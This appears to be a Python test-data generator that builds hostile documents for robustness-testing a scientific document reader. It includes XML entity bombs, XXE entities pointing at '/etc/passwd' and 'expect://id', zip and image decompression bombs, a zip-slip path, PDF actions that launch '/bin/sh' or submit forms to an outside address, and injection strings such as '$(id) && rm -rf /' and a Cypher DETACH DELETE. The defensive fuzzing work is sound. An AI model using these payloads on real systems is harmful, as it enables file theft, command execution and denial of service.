"""Documents made to break a reader: bombs, loops, lies about their kind, floods of text, and damaged copies of the sample documents.

Everything is made here from a seed; nothing is fetched. `write_all` writes them into a folder, each different from every other, with its
kind as the first part of its name.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

from benchmarks.sample_corpus import sources

SUFFIXES = (
    ".pdf",
    ".xml",
    ".html",
    ".txt",
    ".md",
    ".tex",
    ".cif",
    ".csv",
    ".tsv",
    ".xlsx",
    ".png",
    ".jpg",
    ".tiff",
    ".bib",
    ".ris",
)
Made = Iterator[tuple[str, bytes]]


def damaged(data: bytes, generator: random.Random) -> bytes:
    """A copy cut short, with bytes changed, or with a part moved."""
    kind = generator.choice(("truncate", "flip", "splice"))
    if kind == "truncate":
        return data[: generator.randrange(1, len(data))]
    changed = bytearray(data)
    if kind == "flip":
        for _ in range(generator.randrange(1, 40)):
            changed[generator.randrange(len(changed))] = generator.randrange(256)
        return bytes(changed)
    begin = generator.randrange(len(changed))
    end = min(len(changed), begin + generator.randrange(1, 2000))
    return bytes(changed[:begin] + changed[end:] + changed[begin:end])


def nothing(generator: random.Random) -> Made:
    """Empty files, blanks, zeros and noise under every suffix."""
    for number, suffix in enumerate(SUFFIXES):
        yield f"blank{suffix}", b" \n" * (number + 1)
        yield f"zeros{suffix}", bytes(1000 + number)
        yield f"noise{suffix}", generator.randbytes(3000 + number)
        yield f"one_byte{suffix}", bytes([65 + number])
    yield "empty.pdf", b""


def liars(generator: random.Random) -> Made:
    """Sample documents under the suffix of another kind."""
    for path in sources():
        for suffix in generator.sample(SUFFIXES, 4):
            if suffix != path.suffix:
                yield f"{path.stem}{suffix}", path.read_bytes() + f"\n<!-- {suffix} -->".encode()


def xml_bombs() -> Made:
    """Entities that grow, entities that fetch, depth without end."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    body = "<article><front><article-meta><title-group><article-title>{}</article-title></title-group></article-meta></front></article>"
    yield "laughs.xml", f'<?xml version="1.0"?><!DOCTYPE article [<!ENTITY l0 "lol">{laughs}]>{body.format("&l11;")}'.encode()
    yield "quadratic.xml", f'<!DOCTYPE article [<!ENTITY a "{"a" * 100_000}">]>{body.format("&a;" * 20_000)}'.encode()
    for name, target in (
        ("file", "file:///etc/passwd"), ("web", "http://192.0.2.7/x"), ("ftp", "ftp://192.0.2.7/x"), ("expect", "expect://id"),
    ):  # fmt: skip
        yield f"entity_{name}.xml", f'<!DOCTYPE article [<!ENTITY x SYSTEM "{target}">]>{body.format("&x;")}'.encode()
        yield f"dtd_{name}.xml", f'<!DOCTYPE article SYSTEM "{target}">{body.format("Li3PS4 1 mS/cm")}'.encode()
        yield f"parameter_{name}.xml", f'<!DOCTYPE article [<!ENTITY % p SYSTEM "{target}"> %p;]>{body.format("x")}'.encode()
        yield f"style_{name}.xml", f'<?xml-stylesheet href="{target}"?>{body.format("y")}'.encode()
        include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{target}" parse="text"/>'
        yield f"include_{name}.xml", body.format(include).encode()
        yield (
            f"fetch_{name}.html",
            f'<html><base href="{target}"><body><img src="{target}"><iframe src="{target}"></iframe><p>LLZO</p>'.encode(),
        )
    yield "deep.xml", ("<article>" + "<sec>" * 100_000 + "x" + "</sec>" * 100_000 + "</article>").encode()
    yield "deep.html", ("<html><body>" + "<div><table><tr><td>" * 30_000 + "x").encode()
    yield "wide.html", ("<html><body><table><tr>" + "<td>1.2 × 10<sup>-3</sup> S/cm</td>" * 60_000 + "</tr></table>").encode()
    yield "spans.html", b"<html><body><table>" + b"<tr><td colspan=100000 rowspan=100000>LLZO</td></tr>" * 50 + b"</table>"
    yield "attribute.xml", body.format('<x a="' + "b" * 12_000_000 + '"/>').encode()
    yield "unclosed.html", ("<html><body>" + "<p><b><i><sub><sup>" * 40_000).encode()
    yield "utf16.xml", body.format("Li6PS5Cl").encode("utf-16")
    yield "lying_encoding.xml", f'<?xml version="1.0" encoding="utf-16"?>{body.format("Li6PS5Cl")}'.encode()


ROW = b"<row><c><v>1</v></c></row>"


def workbook(megabytes: int) -> bytes:
    """A workbook whose sheet unpacks to so many megabytes."""
    from openpyxl import Workbook

    book, plain, bomb = Workbook(), io.BytesIO(), io.BytesIO()
    book.save(plain)
    with zipfile.ZipFile(plain) as archive, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for member in archive.infolist():
            if not member.filename.endswith("sheet1.xml"):
                target.writestr(member, archive.read(member))
        with target.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(archive.read("xl/worksheets/sheet1.xml").split(b"<sheetData")[0] + b"<sheetData>")
            rows = megabytes * 2**20 // len(ROW)
            for _ in range(rows // 40_000):
                part.write(ROW * 40_000)
            part.write(b"</sheetData></worksheet>")
    return bomb.getvalue()


def archives() -> Made:
    """Workbooks that unpack to gigabytes, or are not what they say."""
    types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
    for name, megabytes in (("small", 150), ("large", 1500)):
        whole = workbook(megabytes)
        yield f"bomb_{name}.xlsx", whole
        # the same with a directory that says the sheet unpacks to a hundred bytes
        with zipfile.ZipFile(io.BytesIO(whole)) as archive:
            size = archive.getinfo("xl/worksheets/sheet1.xml").file_size
        yield f"lying_{name}.xlsx", whole.replace(struct.pack("<I", size), struct.pack("<I", 100))
    entity = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><workbook>&b;</workbook>'
    for suffix in (".xlsx", ".ods"):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("[Content_Types].xml", types)
            archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
            archive.writestr("xl/workbook.xml", entity)
            archive.writestr("content.xml", entity)
            archive.writestr("../../../../tmp/escape", "x")
        yield f"entity{suffix}", buffer.getvalue()
        yield f"cut{suffix}", buffer.getvalue()[:-200]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(20_000):
            archive.writestr(f"xl/{number}", "")
    yield "many_parts.xlsx", buffer.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    """A PNG chunk."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, rows: bytes, extra: bytes = b"") -> bytes:
    """A PNG of one bit a pixel with the given compressed rows."""
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
        + extra
        + chunk(b"IDAT", rows)
        + chunk(b"IEND", b"")
    )


def images() -> Made:
    """Images too large to open, or whose size is a lie."""
    line = bytes(1 + 100_000 // 8)
    packer = zlib.compressobj()
    rows = b"".join(packer.compress(line) for _ in range(100_000)) + packer.flush()
    yield "pixels_100000.png", png(100_000, 100_000, rows)
    yield "pixels_lie.png", png(100_000, 100_000, zlib.compress(line))
    yield "pixels_wide.png", png(2_000_000_000, 1, zlib.compress(line))
    yield (
        "text_bomb.png",
        png(100, 100, zlib.compress(bytes(14) * 100), chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(200_000_000)))),
    )
    yield "no_pixel.png", png(0, 0, b"")
    yield "line.png", png(30_000, 3, zlib.compress(bytes(1 + 30_000 // 8) * 3))
    yield "tall.png", png(3, 30_000, zlib.compress(bytes(2) * 30_000))
    header = b"II*\0" + struct.pack("<I", 8)
    entries = [
        (256, 4, 1, 100_000),
        (257, 4, 1, 100_000),
        (258, 3, 1, 1),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 200),
        (278, 4, 1, 100_000),
        (279, 4, 1, 1),
    ]
    directory = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
    yield "pixels.tiff", header + directory + struct.pack("<I", 0) + bytes(400)
    yield "loop.tiff", header + directory + struct.pack("<I", 8) + bytes(400)  # its next frame is itself
    yield "head_only.jpg", b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"


def pdf(objects: dict[int, bytes], root: int = 1) -> bytes:
    """A PDF of numbered objects, with its cross-reference table."""
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, content in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(b"%010d 00000 n \n" % places.get(n, 0) for n in range(1, size))
    return bytes(out) + b"trailer <</Size %d /Root %d 0 R>>\nstartxref\n%d\n%%%%EOF" % (size, root, start)


def stream(content: bytes, *, packed: bool = False) -> bytes:
    """A stream object."""
    data = zlib.compress(content, 9) if packed else content
    return b"<</Length %d%s>>\nstream\n" % (len(data), b" /Filter /FlateDecode" if packed else b"") + data + b"\nendstream"


def page(contents: int, box: bytes = b"0 0 595 842", extra: bytes = b"") -> bytes:
    """A page object."""
    font = b"/Resources <</Font <</F1 <</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>>>>>"
    return b"<</Type /Page /Parent 2 0 R /MediaBox [%s] %s /Contents %d 0 R %s>>" % (box, font, contents, extra)


def one_page(content: bytes, *, packed: bool = False, box: bytes = b"0 0 595 842", extra: bytes = b"") -> bytes:
    """A PDF of one page."""
    return pdf({
        1: b"<</Type /Catalog /Pages 2 0 R>>", 2: b"<</Type /Pages /Kids [3 0 R] /Count 1>>", 3: page(4, box, extra),
        4: stream(content, packed=packed),
    })  # fmt: skip


def pdfs() -> Made:
    """Page trees without end, ten thousand pages, streams that unpack to hundreds of megabytes, actions, floods of glyphs and rules."""
    words = b"BT /F1 10 Tf 50 700 Td (The ionic conductivity of Li7La3Zr2O12 is 0.3 mS/cm at 25 C.) Tj ET"
    for count in (301, 10_000):
        kids = b" ".join(b"%d 0 R" % (n + 10) for n in range(count))
        objects = {
            1: b"<</Type /Catalog /Pages 2 0 R>>",
            2: b"<</Type /Pages /Kids [%s] /Count %d>>" % (kids, count),
            4: stream(words),
        }
        yield f"pages_{count}.pdf", pdf(objects | {n + 10: page(4) for n in range(count)})
    yield "count_lie.pdf", one_page(words).replace(b"/Count 1", b"/Count 2000000000")
    yield "kids_loop.pdf", pdf({1: b"<</Type /Catalog /Pages 2 0 R>>", 2: b"<</Type /Pages /Kids [2 0 R 2 0 R] /Count 2>>"})
    yield "kids_cycle.pdf", pdf({
        1: b"<</Type /Catalog /Pages 2 0 R>>", 2: b"<</Type /Pages /Kids [3 0 R] /Count 9>>", 3: b"<</Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 9>>",
    })  # fmt: skip
    yield "contents_loop.pdf", one_page(words).replace(b"/Contents 4 0 R", b"/Contents 3 0 R")
    yield "flate_bomb.pdf", one_page(b"0 0 m\n" * 30_000_000, packed=True)
    yield (
        "text_flood.pdf",
        one_page(b"BT /F1 1 Tf " + b"1 0 0 1 10 10 Tm (Li7La3Zr2O12 1.2 mS/cm) Tj " * 20_000 + b"ET", packed=True),
    )
    yield (
        "rule_flood.pdf",
        one_page(
            b"".join(b"%d %d m %d %d l S\n" % (n % 595, n % 842, n * 7 % 595, n * 3 % 842) for n in range(200_000)), packed=True
        ),
    )
    grid = b"".join(b"10 %d m 585 %d l S %d 10 m %d 832 l S\n" % (n, n, n % 585, n % 585) for n in range(10, 830))
    yield "grid_flood.pdf", one_page(grid + words)
    yield "long_word.pdf", one_page(b"BT /F1 10 Tf 50 700 Td (" + b"Li" * 60_000 + b") Tj ET")
    yield "one_spot.pdf", one_page(b"BT /F1 10 Tf " + b"1 0 0 1 100 100 Tm (x) Tj " * 60_000 + b"ET")
    for name, box in (
        ("huge", b"0 0 99999999 99999999"),
        ("negative", b"0 0 -595 -842"),
        ("flat", b"0 0 595 0"),
        ("nan", b"0 0 nan inf"),
        ("dust", b"0 0 .001 .001"),
    ):
        yield f"box_{name}.pdf", one_page(words, box=box)
        yield f"scan_box_{name}.pdf", one_page(b"0 0 100 100 re f", box=box)
    for name, action in (
        ("script", b"/S /JavaScript /JS (app.alert(1); this.submitForm('http://192.0.2.7/'))"), ("web", b"/S /URI /URI (http://192.0.2.7/)"),
        ("launch", b"/S /Launch /F (/bin/sh)"), ("remote", b"/S /GoToR /F (http://192.0.2.7/x.pdf)"),
    ):  # fmt: skip
        yield f"action_{name}.pdf", one_page(words, extra=b"/AA <</O <<%s>>>>" % action)
        catalog = b"<</Type /Catalog /Pages 2 0 R /OpenAction <<%s>>>>" % action
        yield f"open_{name}.pdf", one_page(words).replace(b"<</Type /Catalog /Pages 2 0 R>>", catalog)
    yield "nested.pdf", one_page(words, extra=b"/X " + b"[" * 50_000 + b"]" * 50_000)
    yield "name_loop.pdf", one_page(words).replace(b"/Length", b"/Length 4 0 R /Old")
    yield "head_only.pdf", b"%PDF-1.7\n%%EOF"


def floods() -> Made:
    """Text that invites an expression, an expansion or a grammar to take for ever."""
    pieces = {
        "powers": "1.2 × 10" * 20_000, "brackets": "(" * 60_000 + "Li" + ")" * 60_000, "formula": "Li" + "(La(Zr(O" * 3_000,
        "numbers": "1 " * 100_000, "dashes": "-" * 100_000, "units": "S cm" * 40_000, "dots": "1." * 60_000,
        "range": "x = 0 to 1e9 in steps of 1e-9 in Li_{7-x}La_3Zr_{2-x}Ta_xO_{12}. " * 50,
        "many_x": "Li_{7-x}La_3Zr_{2-x}Ta_xO_{12} with x = " + ", ".join(f"{n / 5000:.4f}" for n in range(5000)) + ".",
        "nested_x": "Li_{" * 5_000 + "x" + "}" * 5_000, "digits": "9" * 200_000, "exponent": "1e999999999 S/cm and 10^{-999999999999} S/cm " * 300,
        "respectively": "The conductivities are " + ", ".join("1.0 × 10^{-3}" for _ in range(4000)) + " S/cm, respectively.",
        "sentence": "the conductivity of Li3PS4 and " * 8_000, "markup": "^{_{" * 20_000, "braces": "{" * 80_000,
        "acronyms": " ".join(f"LL{chr(65 + n % 26)}{chr(65 + n // 26 % 26)}O (Li{n % 9 + 1}La3Zr2O12)" for n in range(3000)),
        "bidi": "\u202e\u200b\u0301" * 30_000, "surrogates": "\ufffd\ufffe" * 10_000, "astral": "\U0001d70e = 1 mS/cm " * 4_000,
        "tables": "| a | b |\n|---|---|\n" * 8_000, "pipes": "|" * 100_000, "headings": "# " * 50_000, "tex": r"\begin{table}" * 5_000,
        "input": r"\input{/etc/passwd}\write18{id}\include{../../secret}" * 100, "macro": r"\def\a{\a\a}\a " * 2_000,
        "math": "$" * 50_001 + r"\frac{" * 5_000, "cypher": "Li'}) MATCH (n) DETACH DELETE n // 1 mS/cm " * 300, "shell": "`id`; $(id) && rm -rf / " * 300,
    }  # fmt: skip
    for name, text in pieces.items():
        for suffix in (".txt", ".md", ".tex", ".html"):
            data = text.encode("utf-8", "surrogatepass")
            yield (
                f"{name}{suffix}",
                b"<html><body><p>" + data + b"</p></body></html>" if suffix == ".html" else data + suffix.encode(),
            )


def sheets_and_cells() -> Made:
    """Tables and crystal files that are too long, too wide or nonsense."""
    yield "wide.csv", (",".join(f"c{n}" for n in range(100_000)) + "\n").encode() * 3
    yield "long_line.csv", b"a" * 20_000_000
    yield "quotes.csv", b'"' * 300_001
    yield "nul.csv", b"formula,sigma\n" + b"Li3PS4\0,1\0e-3\n" * 1000
    yield "rows.csv", b"formula,conductivity (S/cm)\n" + b"".join(b"Li%dPS4,%de-9\n" % (n % 9, n) for n in range(60_000))
    yield "infinite.csv", b"formula,conductivity (S/cm)\nLi3PS4,inf\nLi3PS4,nan\nLi3PS4,-1e308\nLi3PS4,1e400\n"
    cell = "data_x\n_cell_length_a {a}\n_cell_length_b 1\n_cell_length_c 1\n_cell_angle_alpha 90\n_cell_angle_beta 90\n_cell_angle_gamma {g}\n_symmetry_space_group_name_H-M '{s}'\nloop_\n_atom_site_label\n_atom_site_fract_x\n_atom_site_fract_y\n_atom_site_fract_z\n"
    atoms = "".join(f"Li{n} 0.{n:06d} 0 0\n" for n in range(40_000))
    for name, values in {
        "atoms": dict(a=10, g=90, s="P 1", atoms=atoms), "zero": dict(a=0, g=90, s="P 1", atoms="Li1 0 0 0\n"),
        "nan": dict(a="nan", g="inf", s="P 1", atoms="Li1 nan 0 0\n"), "angle": dict(a=10, g=400, s="F m -3 m", atoms="Li1 0 0 0\n"),
        "group": dict(a=10, g=90, s="Z 99", atoms="Li1 0 0 0\n"), "huge": dict(a=1e12, g=90, s="I a -3 d", atoms="Xx1 0 0 0\n"),
        "open": dict(a=10, g=90, s="P 1", atoms=";\nnever closed\n" * 2000),
    }.items():  # fmt: skip
        yield f"{name}.cif", (cell.format(**{k: v for k, v in values.items() if k != "atoms"}) + str(values["atoms"])).encode()
    yield "blocks.cif", b"".join(b"data_%d\n_cell_length_a 1\n" % n for n in range(20_000))


def odd_names() -> Made:
    """Harmless content under names that a shell, a terminal or a query might take for something else."""
    for number, name in enumerate(
        (
            "-rf.txt",
            "--force.txt",
            "a b.txt",
            "ü–\u200b.txt",
            "new\nline.txt",
            "\x1b[31mred.txt",
            "'; DROP.txt",
            "*.txt",
            "%s%n.txt",
            "$(id).txt",
            "x" * 200 + ".txt",
        )
    ):
        yield name, f"The ionic conductivity of Li3PS4 is {number + 1} mS/cm at 25 °C.".encode()


def kinds(generator: random.Random) -> dict[str, Made]:
    """All kinds by name."""
    return {
        "nothing": nothing(generator), "liar": liars(generator), "xml": xml_bombs(), "archive": archives(), "image": images(), "pdf": pdfs(),
        "flood": floods(), "cells": sheets_and_cells(), "name": odd_names(),
    }  # fmt: skip


def write_all(folder: Path, number: int, *, seed: int) -> dict[str, str]:
    """Write ``number`` different hostile files into subfolders by kind and return the kind of each by its SHA-256.

    The made ones first, then damaged copies of the sample documents (a scan costs ten seconds of recognition: one in forty).
    """
    import hashlib

    generator = random.Random(seed)
    known: dict[str, str] = {}

    def write(kind: str, name: str, data: bytes) -> None:
        digest = hashlib.sha256(data).hexdigest()
        if digest not in known:
            if not name.endswith((".bib", ".ris")):  # read beside documents, none themselves
                known[digest] = kind
            path = folder / kind / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)

    for kind, made in kinds(generator).items():
        for name, data in made:
            if len(known) < number:
                write(kind, name, data)
    scans = [p for p in sources() if "scan" in p.parts]
    others = [p for p in sources() if p not in scans]
    while len(known) < number:
        original = generator.choice(scans if generator.random() < 0.025 else others)
        write("damaged", f"{len(known):04d}_{original.stem}{original.suffix}", damaged(original.read_bytes(), generator))
    return known
